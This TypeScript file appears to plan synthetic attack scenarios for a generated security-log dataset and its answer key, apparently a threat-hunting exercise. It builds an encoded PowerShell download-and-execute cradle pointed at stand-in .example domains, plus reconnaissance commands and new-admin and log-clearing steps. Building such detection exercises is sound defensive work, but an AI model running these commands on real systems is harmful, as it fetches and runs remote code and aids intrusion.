/**
 * The attack stories' plan: who, where and when, decided from the seed and the
 * window alone (no database), so the rows and the answer key always agree.
 * Every story lies inside the last two days before `end` (or the whole window
 * when it is shorter), on hosts and accounts of the fixed org model; foreign
 * addresses come from the documentation ranges and are never used by the
 * normal traffic where the stories' hunts look.
 */
import { createHash } from 'node:crypto';
import { HOSTILE, HOSTS, OFFICES, USERS, hexOf, prng, type Host, type Place, type User } from '../org.ts';

const MIN = 60_000_000_000n;
const HOUR = 60n * MIN;

/** Addresses reserved for the stories (never picked by the normal traffic for the columns the hunts read). */
const SPRAY_IPS = ['203.0.113.101', '203.0.113.104', '203.0.113.109', '203.0.113.113', '203.0.113.118'];
const TRAVEL_IPS = ['203.0.113.85', '203.0.113.88', '203.0.113.91', '203.0.113.94'];
const C2_IPS = ['198.51.100.243', '198.51.100.247', '198.51.100.251'];
const C2_DOMAINS = ['cdn-telemetry.example', 'winupdate-check.example', 'assets-sync.example', 'metrics-relay.example'];
const C2_PATHS = ['a.ps1', 'update.ps1', 'inv.ps1', 'stage.ps1'];
const ADMIN_HOSTS = ['LK-APP01', 'LK-APP02', 'LK-FS02', 'LK-PRN01', 'LK-BKP01'];
const NEW_ACCOUNTS = ['support', 'helpdesk', 'svc_update', 'sqlmaint', 'it_support'];
const SQL_HOSTS = ['LK-SQL01', 'LK-SQL02'];
const SQL_COMMANDS = [
  'cmd.exe /c "whoami /all"',
  'cmd.exe /c "net localgroup administrators"',
  'cmd.exe /c "ipconfig /all & net view"',
  'cmd.exe /c "tasklist /v"',
];
/** Where the impossible travel's second sign-in comes from: countries the normal traffic never signs in from. */
const FAR_PLACES: Place[] = [
  { city: 'Sydney', state: 'New South Wales', country: 'AU', countryName: 'Australia', lat: -33.8688, lon: 151.2093 },
  { city: 'Singapore', state: 'Singapore', country: 'SG', countryName: 'Singapore', lat: 1.3521, lon: 103.8198 },
  { city: 'Johannesburg', state: 'Gauteng', country: 'ZA', countryName: 'South Africa', lat: -26.2041, lon: 28.0473 },
  { city: 'Seoul', state: 'Seoul', country: 'KR', countryName: 'South Korea', lat: 37.5665, lon: 126.978 },
  { city: 'Buenos Aires', state: 'Buenos Aires', country: 'AR', countryName: 'Argentina', lat: -34.6037, lon: -58.3816 },
];
export const SPRAY_ATTEMPTS = 30;
export const BEACONS = 180;

export interface StoryPlan {
  seed: number;
  endMs: number;
  /** the span the stories use: min(days, 2) days before end */
  spanMs: number;
  /** the user whose password the spray finds, whose workstation runs the cradle and beacons */
  victim: User;
  victimHost: Host;
  spray: { ip: string; place: Place; targets: User[]; failures: bigint[]; success: bigint; asn: number };
  travel: { user: User; home: Place & { egress: string }; foreign: Place; foreignIp: string; first: bigint; second: bigint; km: number };
  cradle: { domain: string; url: string; c2Ip: string; script: string; b64: string; cmd: bigint; ps: bigint; dns: bigint; connect: bigint; cmdPid: number; psPid: number; parentPid: number; logonId: number };
  beacon: { times: bigint[]; port: number; sent: number[]; received: number[]; sourcePorts: number[] };
  rare: { host: Host; at: bigint; command: string; pid: number; parentPid: number };
  admin: { host: Host; creator: User; newName: string; newSid: string; machineSid: string; created: bigint; added: bigint; cleared: bigint; logonId: number };
  /** the payload's hash, published in threat intelligence with the rest of the campaign */
  payloadSha256: string;
}

function seedOf(seed: number): number {
  return createHash('sha256').update(`stories:${seed}`).digest().readUInt32BE(0);
}

/** Great-circle distance in km. */
export function distanceKm(a: { lat: number; lon: number }, b: { lat: number; lon: number }): number {
  const rad = (d: number) => (d * Math.PI) / 180;
  const h = Math.sin(rad(b.lat - a.lat) / 2) ** 2 + Math.cos(rad(a.lat)) * Math.cos(rad(b.lat)) * Math.sin(rad(b.lon - a.lon) / 2) ** 2;
  return 6371 * 2 * Math.asin(Math.sqrt(h));
}

export function planStories(seed: number, endMs: number, days: number): StoryPlan {
  const rnd = prng(seedOf(seed));
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rnd() * xs.length)]!;
  const between = (lo: number, hi: number) => lo + rnd() * (hi - lo);
  const int = (lo: number, hi: number) => Math.floor(between(lo, hi + 1));
  const spanMs = Math.min(days, 2) * 86400_000;
  const baseNs = BigInt(endMs - spanMs) * 1_000_000n;
  const spanNs = BigInt(spanMs) * 1_000_000n;
  /** a tick at fraction f of the span, plus a random sub-second part */
  const at = (f: number): bigint => baseNs + (spanNs * BigInt(Math.round(f * 1e6))) / 1_000_000n / 100n * 100n + BigInt(int(0, 9_999_999)) * 100n;
  const secs = (lo: number, hi: number): bigint => BigInt(Math.round(between(lo, hi) * 1e7)) * 100n;

  const byHost = (name: string) => HOSTS.find((h) => h.name === name)!;
  const users = USERS.filter((u) => !u.admin && u.ws >= 0);
  const victim = pick(users);
  const victimHost = HOSTS[victim.ws]!;

  // password spray: within one clock hour, one attempt per account, the victim last and successful
  const others = USERS.filter((u) => u !== victim);
  const targets: User[] = [];
  while (targets.length < SPRAY_ATTEMPTS) {
    const u = pick(others);
    if (!targets.includes(u)) targets.push(u);
  }
  const sprayHour = (at(0.16 + rnd() * 0.04) / HOUR) * HOUR;
  let t = sprayHour + BigInt(int(5, 15)) * MIN + secs(0, 59);
  const failures: bigint[] = [];
  for (let k = 0; k < SPRAY_ATTEMPTS; k++) {
    failures.push(t);
    t += secs(20, 50);
  }
  const success = t + secs(40, 150);

  // impossible travel: an office sign-in, then one from a distant country within the hour
  const traveller = pick(USERS.filter((u) => u !== victim && !u.admin));
  const home = OFFICES[traveller.office]!;
  const far = FAR_PLACES.filter((p) => distanceKm(p, home) > 3000);
  const foreign = pick(far);
  const first = at(0.06 + rnd() * 0.04);
  const second = first + secs(25 * 60, 50 * 60);

  // encoded PowerShell download cradle on the victim's workstation, then beaconing to the C2 address
  const domain = pick(C2_DOMAINS);
  const url = `http://${domain}/${pick(C2_PATHS)}`;
  const script = `IEX (New-Object Net.WebClient).DownloadString('${url}')`;
  const cmdAt = at(0.38 + rnd() * 0.04);
  const psAt = cmdAt + secs(0.3, 0.9);
  const c2Ip = pick(C2_IPS);
  const times: bigint[] = [];
  let b = psAt + secs(120, 300);
  for (let k = 0; k < BEACONS; k++) {
    times.push(b);
    b += secs(57, 63);
  }

  // new local administrator on a member server, then the Security log cleared by it
  const adminHost = byHost(pick(ADMIN_HOSTS));
  const creator = pick(USERS.filter((u) => u.admin));
  const newName = pick(NEW_ACCOUNTS);
  const h = hexOf(`machine:${adminHost.name}`);
  const machineSid = `S-1-5-21-${parseInt(h.slice(0, 8), 16)}-${parseInt(h.slice(8, 16), 16)}-${parseInt(h.slice(16, 24), 16)}`;
  const created = at(0.68 + rnd() * 0.04);
  const added = created + secs(20, 90);
  const cleared = added + secs(30 * 60, 70 * 60);

  return {
    seed,
    endMs,
    spanMs,
    victim,
    victimHost,
    spray: { ip: pick(SPRAY_IPS), place: pick(HOSTILE), targets, failures, success, asn: 64496 + int(0, 7) },
    travel: { user: traveller, home, foreign, foreignIp: pick(TRAVEL_IPS), first, second, km: Math.round(distanceKm(home, foreign)) },
    cradle: {
      domain, url, c2Ip, script, b64: Buffer.from(script, 'utf16le').toString('base64'),
      cmd: cmdAt, ps: psAt, dns: psAt + secs(0.2, 0.5), connect: psAt + secs(0.6, 1.2),
      cmdPid: int(1000, 16000) * 4, psPid: int(1000, 16000) * 4, parentPid: int(500, 3000) * 4, logonId: int(0x100000, 0x7fffff),
    },
    beacon: {
      times, port: 443,
      sent: times.map(() => int(380, 620)), received: times.map(() => int(180, 420)), sourcePorts: times.map(() => int(49152, 65535)),
    },
    rare: { host: byHost(pick(SQL_HOSTS)), at: at(0.55 + rnd() * 0.04), command: pick(SQL_COMMANDS), pid: int(1000, 16000) * 4, parentPid: int(500, 3000) * 4 },
    admin: { host: adminHost, creator, newName, newSid: `${machineSid}-1003`, machineSid, created, added, cleared, logonId: int(0x100000, 0x7fffff) },
    payloadSha256: hexOf(`payload:${seed}:${domain}`),
  };
}
